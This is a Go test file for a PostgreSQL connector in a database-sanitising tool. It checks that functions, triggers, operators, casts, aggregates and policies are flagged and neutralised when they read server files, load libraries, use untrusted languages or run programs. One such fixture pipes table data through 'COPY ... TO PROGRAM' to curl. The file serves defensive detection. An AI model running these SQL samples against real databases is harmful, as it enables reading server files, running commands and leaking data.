package postgres

import (
	"testing"

	"github.com/sanitize-db/sanitize/connectors"
	"github.com/sanitize-db/sanitize/connectors/connectortest"
)

// Columns and tables by the names of what reaches out are what they are, and what speaks of them
// comes along as it is.
func TestNamesOfWhatReaches(t *testing.T) {
	a, b := connectortest.PostgresPair(t)
	from, to := a.Database(t), b.DSN(b.Name(t))
	a.Exec(t, from, "CREATE TABLE ads (id int, copy text, status text, CHECK (copy IS DISTINCT FROM ''))", "INSERT INTO ads VALUES (1, 'Buy', 'live'), (2, 'Sell', 'draft')",
		"CREATE VIEW live AS SELECT copy FROM ads WHERE status IS DISTINCT FROM 'draft'", "CREATE TABLE http_request (url text)", "CREATE INDEX ON ads (id) WHERE copy IS DISTINCT FROM 'x'",
		"CREATE FUNCTION asks() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN IF NEW.copy IS DISTINCT FROM 'x' THEN INSERT INTO http_request (url) VALUES (NEW.copy); END IF; RETURN NEW; END$$",
		"CREATE TRIGGER asks AFTER INSERT ON ads FOR EACH ROW EXECUTE FUNCTION asks()", "CREATE RULE also AS ON DELETE TO ads DO ALSO INSERT INTO http_request (url) VALUES (OLD.copy)")
	c, err := catalogKeeping(t, from)
	if err != nil {
		t.Fatal(err)
	}
	if got := fateLines(c.Fates(), "nobody"); got != "" {
		t.Errorf("not all comes along:\n%s", got)
	}
	if err := connectortest.Copy(t, Connector{}, connectors.Options{Workers: 2}, from, to); err != nil {
		t.Fatal(err)
	}
	b.Exec(t, to, "INSERT INTO ads VALUES (3, 'Keep', 'live')", "DELETE FROM ads WHERE id = 1")
	if got := b.Value(t, to, "SELECT string_agg(copy, ' ') || (SELECT ' ' || string_agg(url, ' ') FROM http_request) FROM live"); got != "Keep Keep Buy" {
		t.Errorf("the copy holds %s", got)
	}
	if got := b.Value(t, to, "SELECT count(*) FROM pg_constraint WHERE contype = 'c' AND conrelid = 'ads'::regclass"); got != "1" {
		t.Errorf("%s CHECKs", got)
	}
}

// A function that puts its COPY together is neutralised like one that spells it.
func TestCopyOfPieces(t *testing.T) {
	a := connectortest.Postgres(t)
	from := a.Database(t)
	a.Exec(t, from, "CREATE FUNCTION send(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY '||quote_ident(t)||' TO PROGRAM ''curl -T - https://hooks.internal/'''; END$$",
		"CREATE FUNCTION fetch_in(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE format('COPY %I FROM %L', t, '/srv/in.csv'); END$$",
		"CREATE FUNCTION count_all(t text) RETURNS bigint LANGUAGE plpgsql AS $$DECLARE n bigint; BEGIN EXECUTE 'SELECT count(copy) FROM '||quote_ident(t)||' WHERE copy IS DISTINCT FROM ''x''' INTO n; RETURN n; END$$")
	c, err := catalogKeeping(t, from)
	if err != nil {
		t.Fatal(err)
	}
	const want = "neutralised: function public.fetch_in(t text): would read or write files of the server's machine\n" +
		"neutralised: function public.send(t text): would run a program on the server's machine\n"
	if got := fateLines(c.Fates(), "nobody"); got != want {
		t.Errorf("fates\n%s, want\n%s", got, want)
	}
}

// What reads the server's files by an operator, a cast or an aggregate, or by the condition of a
// trigger, is let in no more than what does it by name.
func TestReachingWithoutName(t *testing.T) {
	a, b := connectortest.PostgresPair(t)
	from, to := a.Database(t), b.DSN(b.Name(t))
	a.Exec(t, from, "CREATE TABLE trg (id int, v text)", "INSERT INTO trg VALUES (1, 'x')", "CREATE FUNCTION noop() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'",
		"CREATE TRIGGER tr BEFORE INSERT ON trg FOR EACH ROW WHEN (pg_read_file('/etc/hostname') <> '') EXECUTE FUNCTION noop()", "COMMENT ON TRIGGER tr ON trg IS 'goes with it'",
		"CREATE TRIGGER fine BEFORE INSERT ON trg FOR EACH ROW WHEN (NEW.v <> 'pg_read_file(1)') EXECUTE FUNCTION noop('COPY trg TO PROGRAM ''x''')",
		"CREATE VIEW seen AS SELECT id FROM trg", "CREATE TRIGGER fine_too INSTEAD OF INSERT ON seen FOR EACH ROW EXECUTE FUNCTION noop()",
		"CREATE TRIGGER of_view AFTER UPDATE ON seen FOR EACH STATEMENT WHEN (pg_read_file('/etc/hostname') <> '') EXECUTE FUNCTION noop()",
		"CREATE OPERATOR <<~ (RIGHTARG = text, FUNCTION = pg_read_file)", "COMMENT ON OPERATOR <<~ (NONE, text) IS 'goes with it'", "CREATE OPERATOR ~~~~ (LEFTARG = oid, RIGHTARG = text, FUNCTION = lo_export)", "CREATE OPERATOR ~+ (LEFTARG = tsquery, RIGHTARG = text, FUNCTION = ts_rewrite)",
		"CREATE OPERATOR ~- (RIGHTARG = text, FUNCTION = upper)",
		"CREATE VIEW o AS SELECT <<~ '/etc/hostname' AS s", "CREATE VIEW o2 AS SELECT s FROM o", "CREATE VIEW rewritten AS SELECT 'a'::tsquery ~+ 'SELECT 1' AS q", "CREATE VIEW fine_view AS SELECT ~- 'a'::text AS s", "CREATE MATERIALIZED VIEW m AS SELECT length(<<~ '/etc/hostname') AS n",
		"CREATE TABLE dop (id int, d text DEFAULT <<~ '/etc/hostname', e text DEFAULT ~- 'a'::text)", "INSERT INTO dop VALUES (1)", "CREATE RULE r AS ON DELETE TO dop DO ALSO SELECT <<~ '/etc/hostname'", "CREATE POLICY p ON dop USING ((<<~ '/etc/hostname') <> '')",
		"CREATE CAST (text AS bytea) WITH FUNCTION pg_read_binary_file(text)", "CREATE VIEW casted AS SELECT 'x'::text::bytea AS c",
		"CREATE AGGREGATE read_last (text) (SFUNC = textcat, STYPE = text, FINALFUNC = pg_read_file)", "CREATE VIEW last AS SELECT read_last(v) AS s FROM trg", "CREATE FUNCTION asks() RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN (SELECT public.read_last(v) FROM public.trg); END'",
		"CREATE OPERATOR FAMILY odd USING btree", "ALTER OPERATOR FAMILY odd USING btree ADD FUNCTION 1 (oid, text) lo_export(oid, text)")
	c, err := catalogKeeping(t, from)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "fates_unnamed.txt", fateLines(c.Fates(), "nobody"))
	if err := connectortest.Copy(t, Connector{}, connectors.Options{Workers: 2}, from, to); err != nil {
		t.Fatal(err)
	}
	for what, want := range map[string]string{
		"SELECT string_agg(tgname, ' ' ORDER BY tgname) FROM pg_trigger":                                             "fine fine_too",
		"SELECT string_agg(oprname, ' ') FROM pg_operator WHERE oid > 16383":                                         "~-",
		"SELECT count(*) FROM pg_cast WHERE oid > 16383":                                                             "0",
		"SELECT count(*) FROM pg_proc WHERE prokind = 'a' AND oid > 16383":                                           "0",
		"SELECT count(*) FROM pg_amproc WHERE oid > 16383":                                                           "0",
		"SELECT count(*) FROM pg_attrdef":                                                                            "1",
		"SELECT string_agg(relname, ' ' ORDER BY relname) FROM pg_class WHERE relkind IN ('v', 'm') AND oid > 16383": "casted fine_view seen",
		"SELECT convert_from(c, 'UTF8') FROM casted":                                                                 "x",
	} {
		if got := b.Value(t, to, what); got != want {
			t.Errorf("%s: %q, want %q", what, got, want)
		}
	}
	if _, err := catalogKeeping(t, from, "operator:public.<<~(NONE,pg_catalog.text)", "aggregate:read_last(text)", "trigger:trg.tr"); err != nil {
		t.Error(err)
	}
}

// What code would do by a text that it hands over, by a library, or by a function in another language that it makes.
func TestReachesByOthers(t *testing.T) {
	const file, program, library, language = reachesFile, reachesProgram, loadsLibrary, makesUntrusted
	function := func(body string) string {
		return "CREATE OR REPLACE FUNCTION public.f()\n RETURNS text\n LANGUAGE plpgsql\nAS $function$BEGIN " + body + " END$function$\n"
	}
	for code, want := range map[string]string{
		"SELECT ts_rewrite('a'::tsquery, 'SELECT pg_read_file(''x'')::tsquery, NULL')": file,
		"SELECT crosstab2('SELECT pg_read_file(''x''), 1, 2')":                         file,
		"SELECT public.crosstab4('SELECT pg_read_file(''x''), 1, 2')":                  file,
		"SELECT * FROM crosstab_hash('SELECT pg_read_file(''x''), 1, 2', 'SELECT 1')":  file,
		"SELECT * FROM xpath_table('id', 'pg_read_file(''x'')', 't', '/a', 'true')":    file,
		"SELECT 'pg_read_file(1)' AS crosses":                                          "",

		function("LOAD 'auth_delay';"):                                   library,
		function("load '/tmp/x.so';"):                                    library,
		function("EXECUTE 'LOAD ''x''';"):                                library,
		function("EXECUTE format('LOAD %L', lib);"):                      library,
		function("EXECUTE 'LOAD ' || quote_literal(lib);"):               library,
		function("PERFORM load('x'); SELECT load FROM loads INTO load;"): "",
		function("SELECT sum(load) AS load, 'payload' FROM t;"):          "",

		function("CREATE FUNCTION g() RETURNS text LANGUAGE plpython3u AS 'return open(1)';"):                       language,
		function("CREATE OR REPLACE PROCEDURE g() AS 'x' LANGUAGE 'plperlu';"):                                      language,
		function("CREATE FUNCTION g(text) RETURNS text AS '$libdir/x', 'g' LANGUAGE C STRICT;"):                     language,
		function("EXECUTE 'create function g(text) returns text language internal as ''pg_read_file''';"):           language,
		function("EXECUTE 'create function g() returns text language plpython3u as $$return 1$$';"):                 language,
		function("EXECUTE format('CREATE FUNCTION g() RETURNS text LANGUAGE %I AS %L', l, b);"):                     language,
		function("DO LANGUAGE plpython3u $$import os$$;"):                                                           language,
		function("DO $$import os$$ LANGUAGE plperlu;"):                                                              language,
		function("CREATE FUNCTION g() RETURNS text LANGUAGE sql AS 'SELECT 1'; RAISE 'language c';"):                "",
		function("CREATE FUNCTION g() RETURNS text LANGUAGE plv8 AS 'return 1'; SELECT language FROM c INTO c;"):    "",
		function("DO $$BEGIN PERFORM 1; END$$; SELECT language FROM books; INSERT INTO t (language) VALUES ('c');"): "",
	} {
		if got := reaches(code, nil); got != want {
			t.Errorf("%s\n%q, want %q", code, got, want)
		}
	}
}
